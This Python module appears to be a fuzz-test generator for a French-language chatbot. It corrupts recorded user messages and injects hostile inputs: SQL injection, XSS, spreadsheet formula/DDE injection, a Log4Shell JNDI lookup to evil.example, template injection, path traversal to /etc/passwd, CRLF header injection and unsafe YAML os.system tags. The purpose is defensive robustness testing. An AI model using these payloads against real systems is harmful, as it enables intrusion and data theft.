"""Messages no one would write and someone will: what people said (``corpus/heard``), spoilt. The same for each seed."""

from __future__ import annotations

import random
from collections.abc import Callable

import yaml

from bot.reading.corpus import HEARD
from bot.settings import MAX_LENGTH

_LOADER = getattr(yaml, "CSafeLoader", yaml.SafeLoader)
_HOSTILE = (
    "'; DROP TABLE conversation; --",
    '" OR 1=1 /*',
    "<script>alert(1)</script>",
    '<img src=x onerror="alert(1)">',
    "<b>Tours</b>",
    "</textarea><svg/onload=alert(1)>",
    "[Tours](javascript:alert(1))",
    '=HYPERLINK("http://evil.example";"Tours")',
    "=cmd|' /C calc'!A0",
    "+1+1@SUM(A1)",
    "{{7*191}}",
    "${jndi:ldap://evil.example/a}",
    "{slot} {0} %s %(x)n %n",
    "/restart",
    '/chiffre_metier{"territory": "commune:37261"}',
    "EXTERNAL: session_start",
    '[Tours]{"entity": "territory"}',
    "../../etc/passwd\x00.png",
    "\\x00 \\u0000 \\N{BULLET}",
    "http://evil.example/?q=%00%0d%0aSet-Cookie:a=b",
    "---\n- !!python/object/apply:os.system [ls]",
)
ECHOES = ("<script", "<img", "<b>", "<svg", "</textarea", "](javascript", "=HYPERLINK", "=cmd|", "1337", "!!python")
"""What no reply may hold of them, as it was typed or carried out."""
_ODD = (
    "😀👩‍👩‍👧‍👦🇫🇷",
    "مهندس في باريس",
    "护士 图尔 多少",
    "медсестра в Туре",
    "Ｔｏｕｒｓ",
    "T̷̢̛o̶u̷r̸s̵",
    "\u202esruoT\u202c",
    "\u200b\u200d\ufeff",
    "\x07\x1b[31m\x00\t\r\n",
    "\ufffe\uffff\U0010ffff",
    "½ ² Ⅳ ① ٣",
    "ßﬁŒİı",
)
_NUMBERS = (
    "0",
    "-1",
    "2024",
    "2099",
    "1e309",
    "999999999999999999999",
    "37000",
    "3,14 %",
    "12/13/2025",
    "0x1F",
    "²⁰²⁵",
)
_KEYS = "azertyuiopqsdfghjklmwxcvbn éèàç'-,.?!"


def heard() -> list[list[str]]:
    """Return the conversations people had, as the messages of each."""
    found = []
    for path in sorted(HEARD.glob("*.yml")):
        each = yaml.load(path.read_text("utf-8"), _LOADER)  # a safe loader
        found += [[turn["say"] for turn in talk["turns"]] for talk in each if "turns" in talk]
    return found


def conversations(seed: int, messages: int) -> list[list[str]]:
    """Return conversations of 1 to 20 messages, this many messages in all, of 0 to 4,000 characters."""
    chance, people = random.Random(seed), heard()
    made: list[list[str]] = []
    while messages:
        length = min(chance.randint(1, 20), messages)
        words = chance.choice(people)
        made.append([_spoilt(chance, words, people) for _ in range(length)])
        messages -= length
    return made


def _spoilt(chance: random.Random, talk: list[str], people: list[list[str]]) -> str:
    text = chance.choice(talk)
    for _ in range(chance.choice((1, 1, 1, 2, 2, 3))):
        spoil = chance.choice(_SPOILS)
        text = spoil(chance, text, chance.choice(chance.choice(people)))
    return text[:MAX_LENGTH]


def _cut(chance: random.Random, text: str, _other: str) -> str:
    ends = sorted(chance.choices(range(len(text) + 1), k=2))
    return text[ends[0] : ends[1]]


def _joined(chance: random.Random, text: str, other: str) -> str:
    return text + chance.choice((" ", "", "\n", ", ", " et ", " sinon ", " ? ", "; ")) + other


def _doubled(chance: random.Random, text: str, _other: str) -> str:
    return chance.choice((" ", "", "\n")).join([text] * chance.randint(2, 4))


def _shuffled(chance: random.Random, text: str, _other: str) -> str:
    words = text.split()
    chance.shuffle(words)
    return " ".join(words)


def _mistyped(chance: random.Random, text: str, _other: str) -> str:
    letters = list(text)
    for _ in range(1 + len(letters) // 12):
        place = chance.randrange(len(letters) + 1)
        letters[place : place + chance.randint(0, 2)] = chance.choices(_KEYS, k=chance.randint(0, 2))
    return "".join(letters)


def _without_spaces(_chance: random.Random, text: str, _other: str) -> str:
    return text.replace(" ", "")


def _cased(chance: random.Random, text: str, _other: str) -> str:
    return "".join(letter.upper() if chance.random() < 0.5 else letter.lower() for letter in text)


def _long(chance: random.Random, text: str, other: str) -> str:
    part = chance.choice((text + " ", other + ". ", text[:1] or "?", text.replace(" ", ""), "Tours, "))
    return (part * (MAX_LENGTH // max(1, len(part)) + 1))[: chance.choice((500, 1500, MAX_LENGTH))]


def _with(among: tuple[str, ...]) -> Callable[[random.Random, str, str], str]:
    def spoil(chance: random.Random, text: str, _other: str) -> str:
        words = text.split(" ")
        place = chance.randrange(len(words) + 1)
        # Alone, first, last or in the middle: some are only read at the beginning
        return chance.choice((chance.choice(among), " ".join([*words[:place], chance.choice(among), *words[place:]])))

    return spoil


_SPOILS = (
    *(_cut, _joined, _doubled, _shuffled, _mistyped, _mistyped, _without_spaces, _cased),
    *(_with(_HOSTILE), _with(_HOSTILE), _with(_ODD), _with(_NUMBERS)),
    _long,
)
